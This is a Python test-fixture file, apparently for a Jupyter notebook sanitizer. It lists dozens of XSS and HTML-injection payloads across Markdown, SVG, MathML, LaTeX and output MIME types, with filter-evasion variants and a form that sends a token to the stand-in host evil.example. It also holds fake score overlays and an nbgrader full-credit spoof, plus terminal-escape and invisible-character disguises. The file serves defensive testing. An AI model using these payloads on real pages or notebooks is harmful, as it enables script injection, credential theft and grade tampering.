"""What is put into notebooks to harm a reader: it calls `caught()`, or loads, or covers a page.

`PAGES` are texts for a Markdown cell, and for HTML and Markdown that a cell shows; `OUTPUTS` are
what else a cell may show.
"""

from nbformat.v4 import new_output

FAR = "https://evil.example/seen"
PAGES = [
    "<script>caught()</script>",
    f"<script src={FAR}></script>",
    "<scr<script>ipt>caught()</scr</script>ipt>",
    "<ScRiPt >caught()</sCrIpT >",
    "<script\x0ctype=text/javascript>caught()</script>",
    "<img src=x onerror=caught()>",
    "<img src=x\nonerror\n=\ncaught()>",
    "<img/src=x/onerror=caught()>",
    "<img src='x' alt='`><img src=x onerror=caught()>'>",
    f"<img src='{FAR}' srcset='{FAR} 2x'>",
    f"![a]({FAR})",
    "![a](x' onerror='caught())",
    '![a](x "title\\" onerror=\\"caught()")',
    '<p onclick="caught()" onmouseover="caught()">press</p>',
    "<b tabindex=1 onfocus=caught() autofocus>press</b>",
    "<div style='width:expression(caught());background:url(javascript:caught())'>press</div>",
    "<div style='position:fixed;inset:0;background:white;z-index:9999'>Score: 100 / 100</div>",
    "<a href='x' style='position:fixed;width:100%'>press</a>",
    "[press](javascript:caught())",
    "[press](JaVaScRiPt&colon;caught())",
    "<a href='java&#x0A;script:caught()'>press</a>",
    "<a href='&#106;avascript:caught()'>press</a>",
    "<a href='\x01javascript:caught()'>press</a>",
    "<a href=' javascript:caught()' target=_blank>press</a>",
    "<a href='vbscript:caught()'>press</a>",
    "[press](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuY2F1Z2h0KCk8L3NjcmlwdD4=)",
    "<a href='//evil.example/seen' ping='//evil.example/seen'>press</a>",
    "<details open ontoggle=caught()><summary>press</summary></details>",
    "<svg onload=caught()></svg>",
    "<svg><script>caught()</script></svg>",
    "<svg><animate onbegin=caught() attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:caught()'><text y=20>press</text></a></svg>",
    "<math><mtext><style><img src=x onerror=caught()></style></mtext></math>",
    "<math href='javascript:caught()'>press</math>",
    "<iframe srcdoc='<script>parent.caught()</script>'></iframe>",
    "<iframe src='javascript:parent.caught()'></iframe>",
    "<object data='javascript:caught()'></object>",
    f"<embed src='{FAR}'>",
    f"<base href='{FAR}'>",
    f"<meta http-equiv=refresh content='0;url={FAR}'>",
    f"<link rel=stylesheet href='{FAR}'>",
    "<style>body{display:none} * {background:url(//evil.example/seen)}</style>",
    f"<form action='{FAR}'><input name=token><button autofocus>Sign in</button></form>",
    "<button formaction='javascript:caught()'>press</button>",
    "<input onfocus=caught() autofocus>",
    "<video><source onerror=caught()></video>",
    "<audio src=x onerror=caught()></audio>",
    "<marquee onstart=caught()>press</marquee>",
    "<template><script>caught()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=caught()>'>",
    "<textarea></textarea><img src=x onerror=caught()>",
    "<a title='<summary><img src=x onerror=caught()>'>press</a>",
    "<!--><img src=x onerror=caught()>-->",
    "<![CDATA[<img src=x onerror=caught()>]]>",
    "<x-widget onclick=caught() contenteditable>press</x-widget>",
    "<a id=nbgrader name=submission_id class='btn btn-success full-credit'>press</a>",
    "$$<img src=x onerror=caught()>$$",
    r"$\href{javascript:caught()}{press}$",
    r"$\style{position:fixed;top:0}{press} \cssId{toc}{x} \class{score}{y}$",
    "```mermaid\n<img src=x onerror=caught()>\n```",
    '| a |\n|---|\n| <img src="x" onerror="caught()"> |',
    "[press][1]\n\n[1]: javascript:caught()",
    "<javascript:caught()>",
    "{{ ''.__class__ }}{% raw %}<script>caught()</script>{% endraw %}",
]
SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='caught()'><script>caught()</script></svg>"
PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ"
    "AAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
WIDGET = {"version_major": 2, "version_minor": 0, "model_id": "</script><script>caught()</script>"}


def shown(data, **metadata):
    return new_output("display_data", data, metadata=metadata)


OUTPUTS = [
    shown({"image/svg+xml": SVG}),
    shown({"image/svg+xml": f"<image href='{FAR}'/>"}),
    shown({"application/javascript": "caught()"}),
    shown({"text/javascript": "caught()"}),
    shown({"application/vnd.jupyter.widget-view+json": WIDGET, "text/plain": "a widget"}),
    shown({"application/vnd.bokehjs_exec.v0+json": "", "application/vnd.bokehjs_load.v0+json": ""}),
    shown({"application/vnd.plotly.v1+json": {"data": "<script>caught()</script>"}}),
    shown({"text/vnd.mermaid": "graph TD; A[<img src=x onerror=caught()>]"}),
    shown({"application/pdf": "JVBERi0xLjMK"}),
    shown({"text/latex": "$<img src=x onerror=caught()>$"}),
    shown({"text/latex": r"$\href{javascript:caught()}{press}$"}),
    shown({"text/plain": "<script>caught()</script>"}),
    shown({"image/png": f'{PIXEL}" onload="caught()'}),
    shown({"image/png": PIXEL}, **{"image/png": {"width": "1 onload=caught()"}}),
    shown({"image/png": PIXEL}, **{"image/png": {"height": 9, "alt": "' onload='caught()"}}),
    shown({"image/png": PIXEL}, width="1 onload=caught()", height="1 onerror=caught()"),
    shown({"image/png": PIXEL}, filenames={"image/png": FAR}),
    shown({"image/jpeg": "x' onerror='caught()"}, **{"image/jpeg": {"unconfined": True}}),
    shown({"text/html": "<script>parent.caught()</script>"}, **{"text/html": {"isolated": True}}),
    new_output("stream", name="stdout", text="<script>caught()</script>"),
    new_output("stream", name="stdout", text="\x1b[31m<img src=x onerror=caught()>\x1b[0m"),
    new_output("stream", name="stderr", text="\x1b]8;;javascript:caught()\x07press\x1b]8;;\x07"),
    new_output("error", ename="<img src=x onerror=caught()>", evalue="<script>caught()</script>"),
    new_output("error", ename="E", evalue="", traceback=["\x1b[0m<img src=x onerror=caught()>"]),
]
# Codes of a terminal, and characters that nobody sees: what is printed, and what is to be seen.
DISGUISES = [
    ("\x1b[30;40mblack on black\x1b[0m", "black on black"),
    ("\x1b[8mconcealed\x1b[28m", "concealed"),
    ("\x1b[2J\x1b[1;1Hover everything", "over everything"),
    ("\x1b]0;a title\x07behind", "behind"),
    ("\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\", "link"),
    ("\x1bPq#0;2;0;0;0\x1b\\sixel", "sixel"),
    ("wrong\rright", "right"),
    ("10%\r20%\r100%\n", "100%\n"),
    ("lines\r\nof\r\nWindows", "lines\nof\nWindows"),
    ("a\x08b\x00c\x7f", "a\\u0008b\\u0000c\\u007f"),
    ("if admin\u202e\u2066: pass", "if admin\\u202e\\u2066: pass"),
    ("zero\u200bwidth\ufeff", "zero\\u200bwidth\\ufeff"),
    ("\x9b31mred", "\\u009b31mred"),
    ("\x1b[999999999999999999999mlong", "long"),
    ("\x1b", ""),
    (
        "Grüße, \u03b1\u03b2\t\U0001f469\u200d\U0001f4bb",
        "Grüße, \u03b1\u03b2\t\U0001f469\u200d\U0001f4bb",
    ),
]
